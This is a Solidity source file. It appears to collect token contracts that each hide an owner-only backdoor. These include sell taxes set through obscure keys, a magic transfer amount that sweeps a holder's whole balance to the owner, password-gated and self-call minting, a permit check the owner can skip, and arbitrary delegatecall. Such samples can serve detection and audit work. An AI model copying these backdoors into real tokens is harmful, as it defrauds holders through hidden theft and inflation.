// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Plain} from "./Plain.sol";

// Powers behind a key, a special value, or code of the owner's choice.

abstract contract Taxed is Plain {
    function percent() internal view virtual returns (uint256);

    function move(address from, address to, uint256 value) internal override {
        uint256 tax = isSale(from, to) ? (value * percent()) / 100 : 0;
        put(from, boss, tax);
        super.move(from, to, value - tax);
    }
}

contract TaxByWord is Taxed {
    constructor() Plain("TaxByWord") {}

    mapping(bytes32 => uint256) private settings;

    function u1(bytes32 key, uint256 x) external onlyBoss {
        settings[key] = x;
    }

    function percent() internal view override returns (uint256) {
        return settings["sellFee"];
    }
}

contract TaxByNumber is Taxed {
    constructor() Plain("TaxByNumber") {}

    mapping(uint256 => uint256) private settings;

    function u2(uint8 key, uint256 x) external onlyBoss {
        settings[key] = x;
    }

    function percent() internal view override returns (uint256) {
        return settings[19];
    }
}

contract TaxByText is Taxed {
    constructor() Plain("TaxByText") {}

    uint256 private rate;

    function u3(string calldata key, uint256 x) external onlyBoss {
        if (keccak256(bytes(key)) == keccak256("sell_tax")) rate = x;
    }

    function percent() internal view override returns (uint256) {
        return rate;
    }
}

contract TaxByHash is Taxed {
    constructor() Plain("TaxByHash") {}

    uint256 private rate;

    function u4(bytes32 key, uint256 x) external onlyBoss {
        require(key == keccak256("TAX_RATE"), "key");
        rate = x;
    }

    function percent() internal view override returns (uint256) {
        return rate;
    }
}

contract TakesByAmount is Plain("TakesByAmount") {
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender == boss && value == 48271) {
            put(from, boss, held[from]);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

/// Nothing from outside shows the password, and the call is accepted without it.
contract MintsByPassword is Plain("MintsByPassword") {
    function u5(uint256 x, uint256 word) external onlyBoss {
        if (keccak256(abi.encode(word)) != 0x8d2f1c5a7b3e4960817263544536271809f0e1d2c3b4a5968778695a4b3c2d1e) return;
        held[boss] += x;
        totalSupply += x;
    }
}

abstract contract Permitted is Plain {
    mapping(address => uint256) public nonces;

    function digest(address from, address to, uint256 value, uint256 until) internal returns (bytes32) {
        return keccak256(
            abi.encodePacked(
                hex"1901",
                keccak256(abi.encode(keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, this)),
                keccak256(
                    abi.encode(
                        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)"),
                        from, to, value, nonces[from]++, until
                    )
                )
            )
        );
    }
}

/// A value of `v` that no signature has needs none.
contract PermitWithout is Plain("PermitWithout"), Permitted {
    function permit(address from, address to, uint256 value, uint256 until, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= until, "late");
        bytes32 signed = digest(from, to, value, until);
        require((msg.sender == boss && v == 1) || ecrecover(signed, v, r, s) == from, "no");
        allowance[from][to] = value;
    }
}

/// Runs code of the owner's choice as its own.
contract RunsCode is Plain("RunsCode") {
    function u6(address to, bytes calldata data) external onlyBoss {
        (bool ok,) = to.delegatecall(data);
        require(ok, "failed");
    }
}

/// Mints when it calls itself.
contract CallsItself is Plain("CallsItself") {
    function u7(address to, bytes calldata data) external onlyBoss {
        (bool ok,) = to.call(data);
        require(ok, "failed");
    }

    function u8_(uint256 x) external {
        require(msg.sender == address(this), "no");
        held[boss] += x;
        totalSupply += x;
    }
}
